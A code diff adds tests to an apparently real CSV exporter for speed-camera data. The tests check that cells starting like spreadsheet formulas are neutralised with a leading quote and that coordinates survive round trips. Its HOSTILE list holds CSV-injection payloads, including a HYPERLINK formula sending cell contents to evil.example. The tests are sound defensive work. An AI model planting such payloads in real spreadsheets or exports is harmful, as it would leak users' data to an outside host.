@@ -96,6 +96,64 @@ def test_twenty_thousand_cameras_round_trip_through_our_csv_reader(tmp_path):
         assert rec.description == cams["description"][i]
 
 
+# Text that a spreadsheet would run as a formula (OWASP "CSV Injection"), as a feed could send it.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_cameras(hostile_country: bool = True) -> CameraSet:
+    """The London camera six times, west of Greenwich (negative longitudes), with a hostile
+    road, description and (unless not ``hostile_country``) country each."""
+    return CameraSet.from_records([dict(SAMPLE_ROWS[9], id=i + 1, lon=round(-0.1234 - i / 100, 6), road=text,
+                                        description=HOSTILE[-1 - i], country=text[:2] if hostile_country else "GB")
+                                   for i, text in enumerate(HOSTILE)])
+
+
+def cells_a_spreadsheet_would_run(rows: list[list[str]]) -> list[str]:
+    """The cells (as the csv module reads them) that start like a formula and are not plain
+    numbers: what Excel or LibreOffice would evaluate."""
+    risky = []
+    for row in rows:
+        for cell in row:
+            if cell.startswith(FORMULA_START):
+                try:
+                    float(cell)
+                except ValueError:
+                    risky.append(cell)
+    return risky
+
+
+def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(tmp_path):
+    path = written("csv", tmp_path, hostile_cameras())
+    text = path.read_bytes().decode()
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == HEADER.split(",") and len(rows) == 7
+    assert cells_a_spreadsheet_would_run(rows) == []
+    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [p["road"] for p in parsed] == ["'" + h for h in HOSTILE]
+    assert [p["description"] for p in parsed] == ["'" + h for h in reversed(HOSTILE)]
+    assert [p["country"] for p in parsed] == ["'" + h[:2] for h in HOSTILE]
+    # the raw cells: the OWASP form, quoted with a single quote first
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text and ',"\'+1",' in text
+    assert ',"\'\t=1",' in text and ',"\'\r=1",' in text
+    # coordinates are numbers, written as before: a negative longitude is not touched
+    assert [(p["lat"], p["lon"]) for p in parsed] == [("51.507351", f"{round(-0.1234 - i / 100, 6):.6f}") for i in range(6)]
+    assert text.split("\r\n")[1].startswith("1,fixed,variable-limit,51.507351,-0.123400,80,,0,one,")
+
+
+def test_a_neutralised_csv_reads_back_at_the_same_positions_in_gpsbabel_and_our_reader(tmp_path):
+    cams = hostile_cameras(hostile_country=False)  # our reader refuses a country that is not a code
+    path = written("csv", tmp_path, cams)
+    babel = interchange.gpsbabel_unicsv("unicsv", path)
+    assert sorted((float(r["Latitude"]), float(r["Longitude"])) for r in babel) == sorted(
+        zip(cams["lat"].tolist(), cams["lon"].tolist()))
+    got = read_back("csv", path)
+    for i, row in enumerate(cams["id"].tolist()):
+        rec = got[str(row)]
+        assert (rec.lat, rec.lon) == (cams["lat"][i], cams["lon"][i])
+        assert rec.road == "'" + HOSTILE[i]  # the re-import keeps the guard: never a formula again
+
+
 def test_the_sample_csv_matches_the_golden_file():
     check_golden("csv", "speedcams.csv", export("csv", mobile=True).files[0].data)
 
